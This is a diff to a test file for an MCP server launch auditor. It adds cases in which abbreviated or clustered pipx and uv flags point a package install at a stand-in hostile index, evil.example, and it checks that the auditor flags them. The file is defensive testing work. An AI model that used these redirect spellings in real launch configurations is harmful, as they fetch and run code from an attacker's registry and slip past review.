@@ -9,7 +9,10 @@
  * entries' runtime arguments (registryRedirect). uv reads its command line with clap, where a
  * one-letter flag takes its value in the same word and follows other one-letter flags there:
  * `-ihttps://…` is `--index-url https://…`, `-qf ./wheels` is `-q --find-links ./wheels`, and
- * `-wother-pkg` installs other-pkg beside the tool (audited as every `--with` is).
+ * `-wother-pkg` installs other-pkg beside the tool (audited as every `--with` is). pipx reads
+ * its command line with argparse, which takes any unambiguous abbreviation of a long option:
+ * `--spe=x` is `--spec=x`, `--ind URL` is `--index-url URL`; and its `--with` installs a package
+ * beside the app as uv's does.
  */
 import { describe, expect, it } from 'vitest';
 import { mapLaunch } from '../../src/audit/mcp/launch.js';
@@ -39,6 +42,13 @@ const UV_SPELLINGS: [string, string[], string][] = [
   ['-fURL (find-links in the same word)', ['-fhttps://evil.example/wheels', PYPI_PACKAGE], 'https://evil.example/wheels'],
   ['-qiURL (after another one-letter flag)', ['-qihttps://evil.example/simple', PYPI_PACKAGE], 'https://evil.example/simple'],
   ['-qf DIR (clustered, value apart)', ['-qf', './wheels', PYPI_PACKAGE], './wheels'],
+];
+
+const PIPX_REDIRECTS: [string, string[], string][] = [
+  ['--ind URL (abbreviated --index-url)', ['run', '--ind', 'https://evil.example/simple', PYPI_PACKAGE], 'https://evil.example/simple'],
+  ['--index-u=URL (abbreviated --index-url)', ['run', '--index-u=https://evil.example/simple', PYPI_PACKAGE], 'https://evil.example/simple'],
+  ['--pi=ARGS (abbreviated --pip-args)', ['run', '--pi=--index-url https://evil.example/simple', PYPI_PACKAGE], '--index-url https://evil.example/simple'],
+  ['-iURL (value in the same word)', ['run', '-ihttps://evil.example/simple', PYPI_PACKAGE], 'https://evil.example/simple'],
 ];
 
 describe('hostile: a launch that names another registry in a spelling its runner reads', () => {
@@ -74,6 +84,37 @@ describe('hostile: a launch that names another registry in a spelling its runner
       if (launch.kind !== 'package') continue;
       expect([launch.name, ...launch.extra.map((p) => p.name)], word).toEqual([PYPI_PACKAGE, 'other-pkg']);
     }
+  });
+
+  it.for(PIPX_REDIRECTS)('pipx run %s: fetched from there, with the app named', ([, args, source], { task }) => {
+    noteCases(task);
+    const launch = mapLaunch({ command: 'pipx', args });
+    expect(launch.kind).toBe('fetched');
+    if (launch.kind !== 'fetched') return;
+    expect(launch.code).toEqual([expect.objectContaining({ ecosystem: 'pypi', name: PYPI_PACKAGE, source })]);
+  });
+
+  it('pipx run --spe=PKG (abbreviated --spec) runs PKG: PKG is what is audited', ({ task }) => {
+    noteCases(task);
+    const launch = mapLaunch({ command: 'pipx', args: ['run', '--spe=other-pkg', PYPI_PACKAGE] });
+    expect(launch.kind === 'package' ? launch.name : launch.kind).toBe('other-pkg');
+  });
+
+  it('pipx run --with PKG and --wi=PKG install PKG beside the app: both are audited', ({ task }) => {
+    for (const args of [['run', '--with', 'other-pkg', PYPI_PACKAGE], ['run', '--wi=other-pkg', PYPI_PACKAGE]]) {
+      noteCases(task);
+      const launch = mapLaunch({ command: 'pipx', args });
+      expect(launch.kind, args.join(' ')).toBe('package');
+      if (launch.kind !== 'package') continue;
+      expect([launch.name, ...launch.extra.map((p) => p.name)], args.join(' ')).toEqual([PYPI_PACKAGE, 'other-pkg']);
+    }
+  });
+
+  it("pipx run: the app's own arguments are not pipx's, and an ambiguous abbreviation is no option", () => {
+    const own = mapLaunch({ command: 'pipx', args: ['run', PYPI_PACKAGE, '--ind', 'https://example.org/'] });
+    expect(own.kind === 'package' ? [own.name, own.extra.length] : own.kind).toEqual([PYPI_PACKAGE, 0]);
+    const ambiguous = mapLaunch({ command: 'pipx', args: ['run', '--py=3.12', PYPI_PACKAGE] });
+    expect(ambiguous.kind === 'package' ? ambiguous.name : ambiguous.kind).toBe(PYPI_PACKAGE);
   });
 
   it('one-letter flags that take no value are no redirection', () => {
